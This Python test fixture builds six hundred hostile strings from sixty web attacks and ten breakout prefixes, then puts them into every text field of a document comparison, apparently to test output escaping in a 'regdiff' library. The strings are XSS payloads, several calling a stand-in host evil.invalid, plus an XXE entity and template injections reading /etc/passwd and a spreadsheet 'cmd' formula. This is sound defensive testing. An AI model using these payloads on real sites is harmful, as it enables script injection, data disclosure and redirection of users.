"""Six hundred hostile strings, made from sixty attacks and ten ways to break out, and a comparison full of them."""

from __future__ import annotations

from regdiff.model import (
    Annotation,
    AnnotationState,
    Change,
    ChangeKind,
    Comparison,
    Deadline,
    Document,
    Edit,
    Furniture,
    Link,
    Meta,
    Norm,
    NormType,
    Notice,
    Op,
    Provision,
    Range,
    Relation,
    Sanction,
    Severity,
    Shift,
    ShiftKind,
    Source,
    Target,
)

RAN = "window.ran=1"
ATTACKS = (
    f"<script>{RAN}</script>",
    f"<ScRiPt >{RAN}</sCrIpT >",
    f"<script/x>{RAN}</script/x>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src='data:text/javascript,window.ran=1'></script>",
    f"<script type=module>{RAN}</script>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><script href='data:,{RAN}'/></svg>",
    f"<img src=x onerror={RAN}>",
    f"<img src='x'onerror='{RAN}'>",
    f"<img src=1 href=1 onerror='{RAN}'></img>",
    f"<svg onload={RAN}>",
    f"<svg/onload={RAN}//",
    f"<body onload={RAN}>",
    f"<video src=x onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<select autofocus onfocus={RAN}>",
    f"<textarea autofocus onfocus={RAN}>",
    f"<marquee onstart={RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RAN}'></iframe>",
    "<iframe src='http://evil.invalid/'></iframe>",
    f"<object data='javascript:{RAN}'></object>",
    f"<embed src='javascript:{RAN}'>",
    f"<a href='javascript:{RAN}' id=x autofocus>x</a>",
    f"<a href='jav&#x09;ascript:{RAN}'>x</a>",
    f"<form action='javascript:{RAN}'><input type=submit></form>",
    f"<button formaction='javascript:{RAN}'>x</button>",
    f"<isindex type=image src=1 onerror={RAN}>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    f"<meta http-equiv=refresh content='0;javascript:{RAN}'>",
    "<base href='http://evil.invalid/'>",
    "<link rel=stylesheet href='http://evil.invalid/x.css'>",
    "<link rel=prefetch href='http://evil.invalid/x'>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<style>*{background:url(http://evil.invalid/x)}</style>",
    "<div style='background:url(http://evil.invalid/x)'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<template><script>{RAN}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RAN}>'>",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"<!--><script>{RAN}</script-->",
    f"<?xml version='1.0'?><script>{RAN}</script>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;<img onerror={RAN} src>",
    f"{{{{constructor.constructor('{RAN}')()}}}}",
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    f"${{{RAN}}}`${{{RAN}}}`",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
    f"\x00<scr\x00ipt>{RAN}</scr\x00ipt>",
    f"\u202e<script>{RAN}</script>\u2066\u200b\ufeff\ud800\udfff",
    f"javascript:{RAN}",
    f"=cmd|'/c calc'!A1\t@SUM(1)\r\n<img src=x onerror={RAN}>",
)
BREAKOUTS = (
    "{}",
    '">{}',
    "'>{}",
    "</title></style></textarea>{}",
    "</script><script>{}",
    "</p></div></section></main></body></html>{}",
    "-->{}<!--",
    '"]}}]}}</script>{}',
    "</option></select></table></svg>{}",
    '" onmouseover="window.ran=1" style="x:{}" x="',
)
PAYLOADS = tuple(breakout.format(attack) for attack in ATTACKS for breakout in BREAKOUTS)


def _document(payloads: tuple[str, ...], side: str) -> Document:
    everything = " ".join(payloads)
    tail = "" if side == "old" else " Changed."
    text, children = "", []
    for number, payload in enumerate(payloads):
        label, heading = f"{number}.", payload
        start = len(text)
        text += f"{label} {heading}\n{payload}{tail}\tcell {payload}\n"
        body_at = start + len(label) + len(heading) + 2
        kind = "tr" if number % 3 == 0 else "paragraph"
        child = Provision(f"{number}{payload}__para_1", kind, Range(body_at, len(text) - 1))
        children.append(
            Provision(
                f"{number}{payload}",
                "article",
                Range(start, len(text) - 1),
                label=label,
                number=payload,
                heading=heading,
                label_range=Range(start, start + len(label)),
                heading_range=Range(start + len(label) + 1, start + len(label) + 1 + len(heading)),
                children=(child,),
                aliases=(payload,),
            )
        )
    root = Provision("", "document", Range(0, len(text)), children=tuple(children))
    return Document(
        text,
        root,
        everything if side == "old" else "en",
        Source(everything, everything, everything),
        Meta(everything, everything, everything),
        (Furniture(everything, Range(0, 0)),),
    )


def _norm(document: Document, node: Provision, payload: str, number: int) -> Norm:
    words = document.quote(node.range)
    return Norm(
        id=f"{number}{payload}",
        document=payload,
        provision=node.eid,
        quote=words,
        range=node.range,
        trigger=words[:5],
        trigger_range=Range(node.range.start, node.range.start + 5),
        type=list(NormType)[number % len(NormType)],
        bearer=payload,
        party=payload,
        counterparty=payload,
        action=payload,
        condition=payload,
        exception=payload,
        deadline=payload,
        deadline_norm=Deadline(1.0, payload, payload, payload),
        sanction=Sanction(payload, 1.0, 2.0, payload, payload),
        refs=(payload, payload),
        rule=payload,
    )


def comparison(payloads: tuple[str, ...]) -> tuple[Comparison, tuple[Annotation, ...]]:
    """Return a comparison, and notes on it, with a payload in every field that holds text."""
    old, new = _document(payloads, "old"), _document(payloads, "new")
    changes, old_norms, new_norms, shifts, notices, notes = [], [], [], [], [], []
    for number, payload in enumerate(payloads):
        left, right = old.root.children[number], new.root.children[number]
        for a, b in ((left, right), (left.children[0], right.children[0])):
            relation = list(Relation)[(2, 3, 4, 5)[number % 4]]
            link = Link(f"{payload}{a.eid}", payload, (a.eid,), (b.eid,), relation, (relation,), 1.0, payload)
            script = (Edit(Op.DELETE, a.range, b.range[:1] * 2), Edit(Op.INSERT, a.range[:1] * 2, b.range))
            script = tuple(Edit(op, Range(*one), Range(*two)) for op, one, two in script)
            changes.append(Change(link, list(ChangeKind)[number % 3], payload, script))
        old_norms.append(_norm(old, left.children[0], payload, number))
        new_norms.append(_norm(new, right.children[0], payload, number))
        kind = list(ShiftKind)[number % len(ShiftKind)]
        shifts.append(
            Shift(kind, old_norms[-1].id, new_norms[-1].id, {payload: (payload, payload)}, payload, payload)
        )
        notices.append(Notice(payload, Severity.WARNING, payload, payload))
        target = Target(payload, payload, payload, right.range, right.eid)
        notes.append(
            Annotation(
                f"{number}{payload}",
                target,
                payload,
                (payload,),
                payload,
                payload,
                list(AnnotationState)[number % 3],
                payload,
            )
        )
    made = Comparison(
        old, new, tuple(changes), tuple(old_norms), tuple(new_norms), tuple(shifts), tuple(notices)
    )
    return made, tuple(notes)
